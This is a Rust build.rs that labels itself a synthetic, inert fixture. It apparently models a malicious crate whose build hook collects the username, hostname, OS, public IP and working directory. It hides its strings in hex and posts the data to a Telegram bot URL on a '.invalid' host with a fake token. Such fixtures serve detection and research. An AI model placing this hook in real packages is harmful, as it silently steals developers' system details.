// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    report();
}

fn output_of(program: &str) -> String {
    std::process::Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of(&from_table("686f73746e616d65"));
    let user = std::env::var(&from_table("55534552"))
        .or_else(|_| std::env::var(&from_table("555345524e414d45")))
        .unwrap_or_default();
    let kind = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = reqwest::blocking::get(&from_table(
        "68747470733a2f2f69702e6578616d706c652e636f6d2f706c61696e",
    ))
    .and_then(|r| r.text())
    .unwrap_or_default();
    let folder = std::env::current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = from_table("68747470733a2f2f6170692e74656c656772616d2e6f72672e696e76616c69642f626f743030303030303030303a46414b452d544f4b454e2d464f522d54455354532f73656e644d657373616765");
    let _ = reqwest::blocking::Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}

fn from_table(digits: &str) -> String {
    (0..digits.len() / 2)
        .map(|i| u8::from_str_radix(&digits[2 * i..2 * i + 2], 16).unwrap_or(b'?') as char)
        .collect()
}

inert_fixture_does_not_build!();
